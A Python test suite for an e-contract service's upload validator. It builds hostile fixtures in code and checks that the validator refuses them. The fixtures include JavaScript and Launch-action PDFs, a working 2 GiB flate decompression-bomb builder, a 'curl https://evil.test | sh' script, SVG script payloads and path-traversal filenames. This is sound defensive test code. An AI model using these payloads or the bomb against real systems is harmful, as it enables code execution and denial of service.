"""Upload checks. Every fixture is built here (pypdf, zlib, zipfile, Pillow): no binary files.

The hostile PDFs are the point: decompression bombs, JavaScript hidden in object streams,
reference loops. Each must be refused within bounded time without growing this process.
"""

from __future__ import annotations

import hashlib
import io
import random
import resource
import struct
import time
import zipfile
import zlib
from collections.abc import Callable

import pytest
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    EncodedStreamObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from econtract.contracts import uploads
from econtract.contracts.uploads import (
    AttachmentInfo,
    PdfInfo,
    inspect_attachment,
    inspect_pdf,
    probe_pdf,
    safe_filename,
)
from econtract.errors import EContractError, UploadRejected, ValidationFailed
from econtract.sandbox import Reason, SandboxError

MB = 1024 * 1024
LIMITS = {"max_bytes": 10 * MB, "max_pages": 50}
GIB = 1024**3

# --- fixture builders -----------------------------------------------------------------------------


def written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def blank_writer(pages: int = 2) -> PdfWriter:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    return writer


def blank_pdf(pages: int = 2) -> bytes:
    return written(blank_writer(pages))


def text_pdf() -> bytes:
    """Two pages with real (Flate-compressed) text content and a Helvetica font."""
    writer = PdfWriter()
    font = writer._add_object(DictionaryObject({
        NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
        NameObject("/BaseFont"): NameObject("/Helvetica")}))
    for text in ("Service agreement", "Signatures"):
        page = writer.add_blank_page(595, 842)
        page[NameObject("/Resources")] = DictionaryObject({NameObject("/Font"): DictionaryObject(
            {NameObject("/F1"): font})})
        content = DecodedStreamObject()
        content.set_data(f"BT /F1 18 Tf 72 760 Td ({text}) Tj ET".encode())
        page[NameObject("/Contents")] = writer._add_object(content.flate_encode())
    return written(writer)


def action(kind: str, **entries: str) -> DictionaryObject:
    result = DictionaryObject({NameObject("/Type"): NameObject("/Action"),
                               NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        result[NameObject(f"/{key}")] = TextStringObject(value)
    return result


def pdf_with(mutate: Callable[[PdfWriter], None], pages: int = 2) -> bytes:
    writer = blank_writer(pages)
    mutate(writer)
    return written(writer)


def js_name_tree(writer: PdfWriter) -> None:
    # What the retired PdfWriter.add_js did; pypdf 7 removed add_js in favour of this.
    writer.add_open_action(JavaScript("app.alert('hello');"))


def js_open_action(writer: PdfWriter) -> None:
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(
        action("/JavaScript", JS="app.alert(1)"))


def js_link_annotation(writer: PdfWriter) -> None:
    link = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (10, 10, 100, 40)]),
        NameObject("/A"): action("/JavaScript", JS="this.submitForm('https://evil.test')")})
    writer.add_annotation(page_number=1, annotation=link)


def js_page_additional_action(writer: PdfWriter) -> None:
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): action("/JavaScript", JS="app.alert(2)")})


def js_uri_link(writer: PdfWriter) -> None:
    writer.root_object[NameObject("/OpenAction")] = action("/URI", URI=" JavaScript:alert(3)")


def launch_action(writer: PdfWriter) -> None:
    writer.root_object[NameObject("/OpenAction")] = action("/Launch", F="cmd.exe")


def launch_in_next_chain(writer: PdfWriter) -> None:
    harmless = action("/GoTo")
    harmless[NameObject("/Next")] = writer._add_object(action("/Launch", F="/bin/sh"))
    writer.pages[1][NameObject("/AA")] = DictionaryObject({NameObject("/C"): harmless})


def xfa_form(writer: PdfWriter) -> None:
    xfa = DecodedStreamObject()
    xfa.set_data(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject({
        NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): writer._add_object(xfa)})


def kids_loop(writer: PdfWriter) -> None:
    pages_ref = writer.root_object.raw_get("/Pages")
    pages_ref.get_object()["/Kids"].append(pages_ref)


def parent_loop(writer: PdfWriter) -> None:
    page = writer.pages[0]
    page[NameObject("/Parent")] = page.indirect_reference


def flate_bomb(prefix: bytes, zeros: int) -> bytes:
    """A zlib stream inflating to ``prefix`` + ``zeros`` zero bytes, built in milliseconds.

    After a full flush the compressor state is reset, so every 1 MiB block of zeros compresses
    to the same bytes: compress one and repeat it. The Adler-32 trailer is computed directly
    (a run of n zeros leaves A unchanged and adds n*A to B).
    """
    chunk = bytes(MB)
    compressor = zlib.compressobj(9)
    head = compressor.compress(prefix) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = compressor.flush()[:-4]  # final empty block; its checksum covers the wrong data
    adler = zlib.adler32(prefix)
    low, high = adler & 0xFFFF, adler >> 16
    high = (high + zeros * low) % 65521
    return head + block * (zeros // MB) + end + struct.pack(">I", (high << 16) | low)


def pdf15(packed: dict[int, bytes], *, catalog_extra: bytes = b"", plain: dict[int, bytes]
          | None = None, objstm_data: Callable[[bytes], bytes] = zlib.compress) -> bytes:
    """A PDF 1.5 whose catalog, page tree and ``packed`` objects live in a compressed object
    stream, indexed by a cross-reference stream (pypdf does not write object streams)."""
    members = {1: b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
               2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>", **packed}
    index, body = [], b""
    for number, obj in members.items():
        index.append(f"{number} {len(body)}")
        body += obj + b"\n"
    header = (" ".join(index) + "\n").encode()
    data = objstm_data(header + body)
    objstm_number = max(members) + 1
    objects = {**(plain or {}), objstm_number: (
        b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(members), len(header), len(data)) + data + b"\nendstream")}
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, obj in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    xref_number = max(objects) + 1
    offsets[xref_number] = len(out)
    positions = {number: i for i, number in enumerate(members)}
    rows = b"".join(
        struct.pack(">BII", 1, offsets[n], 0) if n in offsets
        else struct.pack(">BII", 2, objstm_number, positions[n]) if n in positions
        else struct.pack(">BII", 0, 0, 65535)
        for n in range(xref_number + 1))
    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 4] /Root 1 0 R /Length %d >>\nstream\n"
            % (xref_number, xref_number + 1, len(rows)) + rows + b"\nendstream\nendobj\n")
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def refused(data: bytes, **limits: int) -> UploadRejected:
    with pytest.raises(UploadRejected) as info:
        inspect_pdf(data, **{**LIMITS, **limits})
    return info.value


def rss_kib() -> int:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss


# --- accepted PDFs --------------------------------------------------------------------------------


@pytest.mark.parametrize("build", [blank_pdf, text_pdf], ids=["blank", "text"])
def test_valid_two_page_pdf_is_accepted(build: Callable[[], bytes]) -> None:
    data = build()
    info = inspect_pdf(data, **LIMITS)
    assert info == PdfInfo(page_count=2, size=len(data),
                           sha256=hashlib.sha256(data).hexdigest(), pdf_version="1.3",
                           text=info.text)
    assert ("Service agreement" in info.text) is (build is text_pdf)  # for keyword search


def test_text_fixture_really_has_text() -> None:
    assert "Service agreement" in PdfReader(io.BytesIO(text_pdf())).pages[0].extract_text()


def test_object_stream_pdf_without_scripts_is_accepted() -> None:
    # The control for the object-stream attacks below: the hand-built file itself is fine.
    data = pdf15({5: b"<< /Type /Action /S /GoTo /D [3 0 R /Fit] >>"},
                 catalog_extra=b"/OpenAction 5 0 R /Version /1.6")
    info = inspect_pdf(data, **LIMITS)
    assert (info.page_count, info.pdf_version) == (1, "1.6")


def test_junk_before_the_header_is_tolerated() -> None:
    assert inspect_pdf(b"\r\n" + blank_pdf(), **LIMITS).page_count == 2


# --- size and type --------------------------------------------------------------------------------


def test_empty() -> None:
    error = refused(b"")
    assert error.code == "upload_empty" and isinstance(error, ValidationFailed)


def test_too_large_names_the_limit_in_mb() -> None:
    error = refused(blank_pdf(), max_bytes=300)
    assert error.code == "upload_too_large"
    error = refused(b"%PDF-1.7\n" + b"0" * (3 * MB), max_bytes=2 * MB)
    assert error.code == "upload_too_large" and "2 MB" in error.message


def png_bytes() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(out, "PNG")
    return out.getvalue()


def jpeg_bytes() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (4, 4), "blue").save(out, "JPEG")
    return out.getvalue()


def office_zip(names: list[str], *, odf: str | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        if odf is not None:
            archive.writestr("mimetype", odf, compress_type=zipfile.ZIP_STORED)
        for name in names:
            archive.writestr(name, "<x/>")
    return out.getvalue()


DOCX = ["[Content_Types].xml", "_rels/.rels", "word/document.xml", "docProps/core.xml"]


@pytest.mark.parametrize(("data", "looks_like"), [
    (png_bytes(), "PNG"),
    (jpeg_bytes(), "JPEG"),
    (b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>", "HTML"),
    (office_zip(DOCX), "ZIP"),
    ("你好，这是一份合同。\n".encode(), "text"),
    (random.Random(7).randbytes(4096), None),
])
def test_not_a_pdf(data: bytes, looks_like: str | None) -> None:
    error = refused(data)
    assert error.code == "upload_not_pdf"
    assert looks_like is None or looks_like in error.message


@pytest.mark.parametrize("data", [
    b"%PDF-1.7\n" + random.Random(3).randbytes(3000),
    b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n",
    blank_pdf()[: len(blank_pdf()) * 2 // 3],
    text_pdf()[:-40],
], ids=["garbage", "no-xref", "truncated-half", "truncated-tail"])
def test_unreadable(data: bytes) -> None:
    error = refused(data)
    assert error.code == "upload_unreadable"
    assert "\x00" not in error.message and "%PDF" not in error.message


def test_broken_xref_offset_is_unreadable() -> None:
    data = blank_pdf()
    start = data.rindex(b"startxref\n") + len(b"startxref\n")
    offset = int(data[start:].split()[0])
    broken = data[:start] + str(offset - 9).encode() + b"\n%%EOF\n"
    assert refused(broken).code == "upload_unreadable"


def test_zero_pages_is_unreadable() -> None:
    assert refused(blank_pdf(0)).code == "upload_unreadable"


# --- encryption and active content ----------------------------------------------------------------


@pytest.mark.parametrize(("user", "algorithm"), [("", None), ("", "AES-256"), ("s3cret", None)])
def test_encrypted(user: str, algorithm: str | None) -> None:
    writer = blank_writer()
    writer.encrypt(user_password=user, owner_password="owner", algorithm=algorithm)
    error = refused(written(writer))
    assert error.code == "upload_encrypted" and "encrypted" in error.message


@pytest.mark.parametrize("mutate", [
    js_name_tree, js_open_action, js_link_annotation, js_page_additional_action, js_uri_link])
def test_javascript(mutate: Callable[[PdfWriter], None]) -> None:
    error = refused(pdf_with(mutate))
    assert error.code == "upload_javascript"
    assert "alert" not in error.message  # the script is never echoed


@pytest.mark.parametrize(("packed", "catalog_extra"), [
    # The action only exists inside the compressed object stream.
    ({5: b"<< /S /JavaScript /JS (app.alert(1)) >>"}, b"/OpenAction 5 0 R"),
    # A document-level name tree, both nodes packed.
    ({5: b"<< /JavaScript 6 0 R >>", 6: b"<< /Names [(a) 7 0 R] >>",
      7: b"<< /S /JavaScript /JS (x) >>"}, b"/Names 5 0 R"),
    # Not reachable from the catalog at all: still refused, every object is checked.
    ({5: b"<< /S /JavaScript /JS (x) >>"}, b""),
], ids=["open-action", "name-tree", "orphan"])
def test_javascript_hidden_in_object_stream(packed: dict[int, bytes],
                                            catalog_extra: bytes) -> None:
    data = pdf15(packed, catalog_extra=catalog_extra)
    assert b"JavaScript" not in data  # truly hidden from a byte scan
    assert refused(data).code == "upload_javascript"


@pytest.mark.parametrize("mutate", [launch_action, launch_in_next_chain])
def test_launch_action(mutate: Callable[[PdfWriter], None]) -> None:
    assert refused(pdf_with(mutate)).code == "upload_launch_action"


def test_launch_subtype_given_by_reference() -> None:
    # /S must be a name, but viewers resolve references anywhere: /S 6 0 R with 6 = /Launch.
    data = pdf15({5: b"<< /S 6 0 R /F (cmd.exe) >>", 6: b"/Launch"},
                 catalog_extra=b"/OpenAction 5 0 R")
    assert refused(data).code == "upload_launch_action"


def test_xfa() -> None:
    assert refused(pdf_with(xfa_form)).code == "upload_xfa"


def test_too_many_pages() -> None:
    error = refused(blank_pdf(4), max_pages=3)
    assert error.code == "upload_too_many_pages" and "3" in error.message
    assert inspect_pdf(blank_pdf(3), **{**LIMITS, "max_pages": 3}).page_count == 3


# --- resource attacks -----------------------------------------------------------------------------


def contents_bomb() -> bytes:
    writer = blank_writer(1)
    stream = EncodedStreamObject()
    stream._data = flate_bomb(b"", 2 * GIB)
    stream[NameObject("/Filter")] = NameObject("/FlateDecode")
    writer.pages[0][NameObject("/Contents")] = writer._add_object(stream)
    return written(writer)


def objstm_bomb() -> bytes:
    return pdf15({}, objstm_data=lambda content: flate_bomb(content, 2 * GIB))


@pytest.mark.parametrize("build", [contents_bomb, objstm_bomb])
def test_decompression_bomb_is_refused_cheaply(build: Callable[[], bytes]) -> None:
    data = build()
    assert len(data) < 4 * MB
    before = rss_kib()
    started = time.monotonic()
    error = refused(data)
    elapsed = time.monotonic() - started
    assert error.code == "upload_unreadable" and "too complex" in error.message
    assert elapsed < 20
    assert rss_kib() - before < 100 * 1024  # the parent never inflates anything


def test_bomb_builder_is_a_valid_zlib_stream() -> None:
    # Checked at 300 MiB to stay quick; the 2 GiB bombs differ only in the repeat count.
    size = 300 * MB
    decompressor, total, data = zlib.decompressobj(), 0, flate_bomb(b"abc", size)
    while data:
        total += len(decompressor.decompress(data, 64 * MB))
        data = decompressor.unconsumed_tail
    assert total == size + 3 and decompressor.eof  # eof: the Adler-32 trailer matched
    assert len(flate_bomb(b"", 2 * GIB)) < 3 * MB


def huge_image(writer: PdfWriter) -> None:
    image = EncodedStreamObject()
    image._data = zlib.compress(bytes(1000))
    image.update({NameObject("/Type"): NameObject("/XObject"),
                  NameObject("/Subtype"): NameObject("/Image"),
                  NameObject("/Width"): NumberObject(100_000),
                  NameObject("/Height"): NumberObject(100_000),
                  NameObject("/ColorSpace"): NameObject("/DeviceRGB"),
                  NameObject("/BitsPerComponent"): NumberObject(8),
                  NameObject("/Filter"): NameObject("/FlateDecode")})
    writer.pages[0][NameObject("/Resources")] = DictionaryObject({NameObject("/XObject"):
        DictionaryObject({NameObject("/Im0"): writer._add_object(image)})})


def needle_page(writer: PdfWriter) -> None:
    writer.add_blank_page(0.5, 1_000_000)


@pytest.mark.parametrize("mutate", [huge_image, needle_page])
def test_renderer_bombs_are_refused(mutate: Callable[[PdfWriter], None]) -> None:
    # Renderers allocate from declared sizes: 10^10-pixel images, 1 x 10^6 pt pages.
    assert refused(pdf_with(mutate)).code == "upload_unreadable"


@pytest.mark.parametrize("mutate", [kids_loop, parent_loop])
def test_reference_loops_are_refused_quickly(mutate: Callable[[PdfWriter], None]) -> None:
    started = time.monotonic()
    assert refused(pdf_with(mutate)).code == "upload_unreadable"
    assert time.monotonic() - started < 20


def test_huge_object_count_is_refused() -> None:
    members = {n: b"<< /A %d >>" % n for n in range(5, 100_010)}
    started = time.monotonic()
    assert refused(pdf15(members)).code == "upload_unreadable"
    assert time.monotonic() - started < 20


@pytest.mark.parametrize(("reason", "error_type", "code"), [
    ("timeout", UploadRejected, "upload_unreadable"),
    ("memory", UploadRejected, "upload_unreadable"),
    ("crashed", EContractError, "upload_check_failed"),
])
def test_sandbox_failures(monkeypatch: pytest.MonkeyPatch, reason: Reason,
                          error_type: type[EContractError], code: str) -> None:
    def failing(target: str, data: bytes, **limits: object) -> dict[str, object]:
        raise SandboxError(reason, "simulated")

    monkeypatch.setattr(uploads, "run_isolated", failing)
    with pytest.raises(EContractError) as info:
        inspect_pdf(blank_pdf(), **LIMITS)
    assert type(info.value) is error_type and info.value.code == code
    if reason != "crashed":
        assert "too complex or damaged" in info.value.message
    else:
        assert info.value.status == 500


def test_probe_refuses_in_process_too() -> None:
    # The probe's own checks, without the sandbox around them (quicker to debug).
    with pytest.raises(UploadRejected) as info:
        probe_pdf(pdf_with(js_open_action))
    assert info.value.code == "upload_javascript"
    assert probe_pdf(blank_pdf()) == {"page_count": 2, "pdf_version": "1.3", "text": ""}


# --- attachments ----------------------------------------------------------------------------------

OOXML = "application/vnd.openxmlformats-officedocument"


@pytest.mark.parametrize(("data", "filename", "content_type"), [
    (png_bytes(), "photo.exe", "image/png"),
    (jpeg_bytes(), "scan.pdf", "image/jpeg"),
    (b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "x.gif", "image/gif"),
    (b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(24), "x.webp", "image/webp"),
    ("合同附件：付款计划\n第一期 2026-12-01\n".encode(), "附件.txt", "text/plain; charset=utf-8"),
    ("名称,金额\n服务费,1000\n".encode(), "付款.csv", "text/csv; charset=utf-8"),
    (b"MZ Logistics: delivery schedule\n", "notes.exe", "text/plain; charset=utf-8"),
    (office_zip(DOCX), "a.docx", f"{OOXML}.wordprocessingml.document"),
    (office_zip(["[Content_Types].xml", "xl/workbook.xml"]), "a.zip",
     f"{OOXML}.spreadsheetml.sheet"),
    (office_zip(["[Content_Types].xml", "ppt/presentation.xml"]), "p",
     f"{OOXML}.presentationml.presentation"),
    (office_zip(["content.xml", "META-INF/manifest.xml"],
                odf="application/vnd.oasis.opendocument.text"), "a.odt",
     "application/vnd.oasis.opendocument.text"),
])
def test_allowed_attachments(data: bytes, filename: str, content_type: str) -> None:
    info = inspect_attachment(data, filename, **LIMITS)
    assert info == AttachmentInfo(content_type=content_type, size=len(data),
                                  sha256=info.sha256)
    assert len(info.sha256) == 64


def test_pdf_attachment_is_checked_like_a_contract() -> None:
    ok = inspect_attachment(text_pdf(), "annex.png", **LIMITS)
    assert ok.content_type == "application/pdf"
    with pytest.raises(UploadRejected) as info:
        inspect_attachment(pdf_with(js_open_action), "annex.pdf", **LIMITS)
    assert info.value.code == "upload_javascript"


@pytest.mark.parametrize(("data", "says"), [
    (b"\x7fELF\x02\x01\x01\x00" + bytes(56), "Programs"),
    (b"MZ\x90\x00\x03\x00\x00\x00" + bytes(56) + b"This program cannot be run", "Programs"),
    (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(24), "Programs"),
    (b"#!/bin/sh\ncurl https://evil.test | sh\n", "Programs"),
    (b"<!DOCTYPE html><html><script>alert(1)</script></html>", "HTML"),
    (b"  <html><body>hi</body></html>", "HTML"),
    (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)'
     b"</script></svg>", "SVG"),
    (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "SVG"),
    ("名称,金额\n服务费,1000\n".encode("gbk"), "UTF-8"),
    (random.Random(5).randbytes(2048) + b"\x00", "not allowed"),
    (office_zip(["evil.exe", "readme.txt"]), "ZIP"),
    (office_zip([*DOCX, "word/vbaProject.bin"]), "macros"),
    (office_zip(["content.xml", "Basic/Standard/Module1.xml"],
                odf="application/vnd.oasis.opendocument.text"), "macros"),
    (office_zip(["[Content_Types].xml", "lib/net45/evil.dll"]), "ZIP"),  # a NuGet package
])
def test_refused_attachments(data: bytes, says: str) -> None:
    with pytest.raises(UploadRejected) as info:
        inspect_attachment(data, "harmless.pdf", **LIMITS)
    assert info.value.code == "upload_type_not_allowed"
    assert says in info.value.message


def test_attachment_size_and_damage() -> None:
    for data, limit, code in [(b"", 10, "upload_empty"), (png_bytes(), 10, "upload_too_large"),
                              (b"PK\x03\x04" + bytes(100), MB, "upload_unreadable")]:
        with pytest.raises(UploadRejected) as info:
            inspect_attachment(data, "x", max_bytes=limit, max_pages=5)
        assert info.value.code == code


# --- file names -----------------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "expected"), [
    ("contract.pdf", "contract.pdf"),
    ("../../etc/passwd", "passwd"),
    ("C:\\Users\\王\\Desktop\\合同.pdf", "合同.pdf"),
    ("..\\..\\boot.ini", "boot.ini"),
    ("...hidden.pdf", "hidden.pdf"),
    ("evil\x00name\r\n.pdf", "evilname.pdf"),
    ("invoice\u202efdp.exe", "invoicefdp.exe"),
    ('a<b>:"c"|?*.pdf', "a_b___c____.pdf"),
    ("电子合同（最终版）.pdf", "电子合同（最终版）.pdf"),
    ("", "file"),
    ("..", "file"),
    ("/", "file"),
    ("CON.txt", "_CON.txt"),
])
def test_safe_filename(name: str, expected: str) -> None:
    assert safe_filename(name) == expected


def test_safe_filename_default_and_length() -> None:
    assert safe_filename("\x01\x02", default="contract.pdf") == "contract.pdf"
    long = safe_filename("合" * 500 + ".pdf")
    assert len(long) == 200 and long.endswith(".pdf") and long.startswith("合合")
    assert len(safe_filename("x" * 300)) == 200
